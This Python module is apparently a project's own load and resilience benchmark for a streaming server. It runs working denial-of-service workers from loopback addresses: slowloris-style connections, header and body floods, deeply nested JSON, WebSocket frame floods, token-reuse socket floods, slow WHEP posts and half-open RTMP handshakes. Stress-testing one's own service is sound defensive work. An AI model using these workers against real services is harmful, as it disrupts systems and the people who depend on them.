"""The attacks. Each is a worker that begins anew whenever the server ends it; what became of them is counted.

As a program: ``python -m bench.attack.strangers TARGET SECONDS NAME…``; one line of JSON when it ends.
"""

import asyncio
import itertools
import json
import resource
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Final

from bench.attack.wire import (
    CONTINUATION,
    PING,
    PONG,
    TEXT,
    Target,
    Wire,
    WrongAnswer,
    command,
    connected,
    directed,
    frame,
    offer,
    request,
    upgrade,
    wide_offer,
)

CROWDS: Final = range(33, 65)
"""Last bytes of the addresses from which many connections come. Apart, for else they evict the other attackers."""
OTHERS: Final = range(1, 33)
PIECE_BYTES: Final = 64 * 1024
PAUSE_S: Final = 0.02
"""Between two attempts of one worker."""
HELD_S: Final = 25.0
"""How long a connection is held that cannot see its end, for it reads nothing."""
HUGE_BODY: Final = 64 * 1024 * 1024
WIDE_LINES: Final = 256
_JSON: Final = "application/json"
_VIEW: Final = offer("chromium-view")
_LISTEN: Final = offer("chromium-view-multiplexed")


@dataclass
class Context:
    """What the workers of one attack share."""

    target: Target
    addresses: range
    counts: Counter[str] = field(default_factory=Counter)
    _numbers: Iterator[int] = field(default_factory=itertools.count)

    def source(self) -> str:
        """The next address of an attacker."""
        return f"127.0.1.{self.addresses[next(self._numbers) % len(self.addresses)]}"

    async def socket(self, wire: Wire) -> None:
        """Make the connection a signalling socket of a viewer, as anybody may.

        Raises:
            WrongAnswer: refused.
        """
        path = await directed(wire, "subscribe", self.subscription())
        await wire.send(upgrade(path))
        status, _, _ = await wire.response()
        self.counts[f"upgrade {status}"] += 1
        if status != 101:
            raise WrongAnswer(str(status))

    def subscription(self) -> dict[str, object]:
        """The director's body."""
        return {"streamName": self.target.stream, "streamAccountId": self.target.account}


async def push(wire: Wire, piece: bytes, limit: int, context: Context) -> None:
    """Send the same until the server ends it or the limit is reached. Yields often, so that all workers have a turn."""
    sent = 0
    while sent < limit:
        wire.writer.write(piece)
        await wire.writer.drain()
        sent += len(piece)
        context.counts["bytes"] += len(piece)
        await asyncio.sleep(0)


# --- A: HTTP and WebSocket ------------------------------------------------------------------------------------------


async def endless_head(context: Context) -> None:
    """Header lines for 100 MB, or one value of that size, or trailers."""
    kind = context.counts["heads"] % 3
    context.counts["heads"] += 1
    begin = b"POST /api/director/subscribe HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
    begin = (b"GET / HTTP/1.1\r\nHost: a\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nx: ", begin)[kind]
    piece = b"y" * PIECE_BYTES if kind == 1 else b"x: y\r\n" * (PIECE_BYTES // 6)
    async with connected(context.target.http, context.source()) as wire:
        await wire.send(begin)
        await push(wire, piece, 100_000_000, context)


async def silent(context: Context) -> None:
    """Say nothing, or half a request, until the server hangs up."""
    context.counts["opened"] += 1
    async with connected(context.target.http, context.source()) as wire:
        if context.counts["opened"] % 2:
            await wire.send(b"GET /healthz HTTP/1.1\r\nHo")
        await wire.discard()


async def pipelined(context: Context) -> None:
    """3.2 MB of requests; nothing of the answers is read."""
    async with connected(context.target.http, context.source(), reads=False) as wire:
        piece = request("GET", "/")
        await push(wire, piece * 1000, 3_200_000, context)
        async with asyncio.timeout(HELD_S):
            await wire.writer.wait_closed()


async def pings(context: Context) -> None:
    """Pings of 125 bytes; nothing of the pongs is read."""
    async with connected(context.target.http, context.source()) as wire:
        await context.socket(wire)
        wire.writer.transport.pause_reading()  # type: ignore[attr-defined]
        await push(wire, frame(PING, b"p" * 125) * 500, 1 << 40, context)


async def flood(context: Context, piece: bytes, begin: bytes = b"") -> None:
    """The same frames for ever, on one socket whose answers are read."""
    async with connected(context.target.http, context.source()) as wire:
        await context.socket(wire)
        reading = asyncio.create_task(wire.discard())
        try:
            await wire.send(begin)
            await push(wire, piece, 1 << 40, context)
        finally:
            reading.cancel()
            with suppress(asyncio.CancelledError, OSError):
                await reading


async def empty_continuations(context: Context) -> None:
    """A message that never ends, of empty frames."""
    await flood(context, frame(CONTINUATION, fin=False) * 8000, frame(TEXT, b"{", fin=False))


async def empty_pongs(context: Context) -> None:
    """Pongs that nobody asked for."""
    await flood(context, frame(PONG) * 8000)


_PROJECT: Final = command(
    "project", sourceId="x", mapping=[{"media": "video", "mediaId": str(number)} for number in range(512)]
)


async def projects(context: Context) -> None:
    """``project`` with 512 entries, by a viewer."""
    await flood(context, _PROJECT * 4, command("view", sdp=_LISTEN))


_VIEWS: Final = command("view", sdp=wide_offer(WIDE_LINES)) + command("unview")


async def views(context: Context) -> None:
    """``view`` of 256 m-lines and ``unview``, again and again."""
    await flood(context, _VIEWS)


_SOCKETS_OF_ONE_TOKEN: Final = 400


async def one_token(context: Context) -> None:
    """Hundreds of sockets with one JWT, held."""
    source = context.source()
    async with connected(context.target.http, source) as wire:
        path = await directed(wire, "subscribe", context.subscription())

    async def hold() -> None:
        with suppress(OSError, EOFError):
            async with connected(context.target.http, source) as wire:
                await wire.send(upgrade(path))
                status, _, _ = await wire.response()
                context.counts[f"upgrade {status}"] += 1
                await wire.discard()

    async with asyncio.timeout(15), asyncio.TaskGroup() as tasks:
        for _ in range(_SOCKETS_OF_ONE_TOKEN):
            tasks.create_task(hold())


async def large_bodies(context: Context) -> None:
    """64 MB for the director, WHIP and WHEP, with a length and in chunks."""
    kind = context.counts["bodies"]
    context.counts["bodies"] += 1
    path, media = (
        ("/api/director/subscribe", _JSON),
        ("/api/whip/demo", "application/sdp"),
        (f"/api/whep/{context.target.account}/{context.target.stream}", "application/sdp"),
    )[kind % 3]
    is_chunked = kind // 3 % 2
    size = "Transfer-Encoding: chunked" if is_chunked else f"Content-Length: {HUGE_BODY}"
    piece = b"x" * PIECE_BYTES
    if is_chunked:
        piece = f"{PIECE_BYTES:x}\r\n".encode() + piece + b"\r\n"
    async with connected(context.target.http, context.source()) as wire:
        await wire.send(f"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: {media}\r\n{size}\r\n\r\n".encode())
        await push(wire, piece, HUGE_BODY, context)


async def hostile_json(context: Context) -> None:
    """Arrays 100 000 deep and numbers of 400 digits."""
    deep, number = b"[" * 100_000, b"9" * 400
    async with connected(context.target.http, context.source()) as wire:
        for body in (b'{"streamName":' + number + b"}", b'{"streamName":' + b"[" * 7000, deep):
            await wire.send(request("POST", "/api/director/subscribe", body, Content_Type=_JSON))
            status, fields, _ = await wire.response()
            context.counts[f"director {status}"] += 1
            if fields.get("connection") == "close":
                break
    async with connected(context.target.http, context.source()) as wire:
        await context.socket(wire)
        opening = json.dumps(_VIEW).encode()
        wish = b'{"type":"cmd","transId":1,"name":"view","data":{"sdp":' + opening + b',"maxBitrate":' + number + b"}}"
        for body in (wish, deep):
            await wire.send(frame(TEXT, body))
            context.counts[f"socket {(await wire.message())['type']}"] += 1


async def refused_upgrades(context: Context) -> None:
    """Upgrades with a bad token, with none, and with a bad handshake."""
    async with connected(context.target.http, context.source()) as wire:
        kind = context.counts["upgrades"] % 3
        context.counts["upgrades"] += 1
        path = ("/ws/v2/sub/x?token=a.b.c", "/ws/v2/sub/x", "/ws/v2/pub/x")[kind]
        data = upgrade(path)
        await wire.send(data.replace(b"Version: 13", b"Version: 7") if kind == 2 else data)
        status, _, _ = await wire.response()
        context.counts[f"upgrade {status}"] += 1


# --- B: places and shares -------------------------------------------------------------------------------------------


async def whep_without_ice(context: Context) -> None:
    """Anonymous posts of which nothing follows."""
    async with connected(context.target.http, context.source()) as wire:
        path = f"/api/whep/{context.target.account}/{context.target.stream}"
        await wire.send(request("POST", path, _VIEW.encode(), Content_Type="application/sdp"))
        status, _, _ = await wire.response()
        context.counts[f"whep {status}"] += 1


async def views_without_ice(context: Context) -> None:
    """Sockets that view, and never send a check."""
    async with connected(context.target.http, context.source()) as wire:
        await context.socket(wire)
        await wire.send(command("view", sdp=_VIEW))
        context.counts[f"view {(await wire.message())['type']}"] += 1
        await wire.discard()


async def slow_whep(context: Context) -> None:
    """A body that comes a byte a second."""
    body = _VIEW.encode()
    async with connected(context.target.http, context.source()) as wire:
        path = f"/api/whep/{context.target.account}/{context.target.stream}"
        whole = request("POST", path, body, Content_Type="application/sdp")
        context.counts["posts"] += 1
        await wire.send(whole[: -len(body)])
        answer = asyncio.create_task(wire.response())
        try:
            for at in range(len(body)):
                await wire.send(body[at : at + 1])
                done, _ = await asyncio.wait([answer], timeout=1)
                if done:
                    context.counts[f"whep {answer.result()[0]}"] += 1
                    return
        finally:
            answer.cancel()


async def half_rtmp(context: Context) -> None:
    """Encoders that say nothing, half a handshake, or a handshake and no more."""
    kind = context.counts["opened"] % 3
    context.counts["opened"] += 1
    async with connected(context.target.rtmp, context.source()) as wire:
        await wire.send((b"", b"\x03" + bytes(700), b"\x03" + bytes(1536))[kind])
        await wire.discard()


@dataclass(frozen=True, slots=True)
class Attack:
    """``workers``: how many at a time."""

    section: str
    text: str
    worker: Callable[[Context], Awaitable[None]]
    workers: int

    @property
    def addresses(self) -> range:
        """Where they come from."""
        return CROWDS if self.workers > len(CROWDS) * 8 else OTHERS


ATTACKS: Final[dict[str, Attack]] = {
    "endless_head": Attack("A", "endless heads, values, trailers", endless_head, 16),
    "silent": Attack("A", "silent and half requests, renewed", silent, 6000),
    "pipelined": Attack("A", "pipelined GETs, unread", pipelined, 16),
    "pings": Attack("A", "WebSocket pings, pongs unread", pings, 16),
    "continuations": Attack("A", "empty continuation frames", empty_continuations, 8),
    "pongs": Attack("A", "empty pongs", empty_pongs, 8),
    "projects": Attack("A", "`project` × 512", projects, 8),
    "views": Attack("A", f"`view` of {WIDE_LINES} m-lines and `unview`", views, 8),
    "one_token": Attack("A", "400 sockets with one JWT", one_token, 2),
    "large_bodies": Attack("A", "bodies of 64 MB", large_bodies, 12),
    "hostile_json": Attack("A", "JSON 100 000 deep, numbers of 400 digits", hostile_json, 8),
    "refused_upgrades": Attack("A", "refused upgrades", refused_upgrades, 16),
    "whep_without_ice": Attack("B", "anonymous WHEP posts without ICE", whep_without_ice, 32),
    "views_without_ice": Attack("B", "views without ICE, held", views_without_ice, 512),
    "slow_whep": Attack("B", "slow WHEP bodies", slow_whep, 1024),
    "half_rtmp": Attack("B", "half-open RTMP, renewed", half_rtmp, 1024),
}


async def persist(attack: Attack, context: Context) -> None:
    """One worker: again and again."""
    while True:
        try:
            await attack.worker(context)
        except (OSError, EOFError, TimeoutError) as failure:
            context.counts[type(failure).__name__] += 1
        except (WrongAnswer, asyncio.LimitOverrunError) as answer:
            context.counts[str(answer)[:40]] += 1
        await asyncio.sleep(PAUSE_S)


async def main(target: Target, seconds: float, names: list[str]) -> None:
    """All of them at once, so long."""
    contexts = {name: Context(target, ATTACKS[name].addresses) for name in names}
    workers = [
        asyncio.create_task(persist(ATTACKS[name], contexts[name]))
        for name in names
        for _ in range(ATTACKS[name].workers)
    ]
    done, _ = await asyncio.wait(workers, timeout=seconds, return_when=asyncio.FIRST_EXCEPTION)
    for worker in workers:
        worker.cancel()
    await asyncio.gather(*workers, return_exceptions=True)
    for worker in done:
        worker.result()
    print(json.dumps({name: dict(context.counts) for name, context in contexts.items()}))


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main(Target(**json.loads(sys.argv[1])), float(sys.argv[2]), sys.argv[3:]))
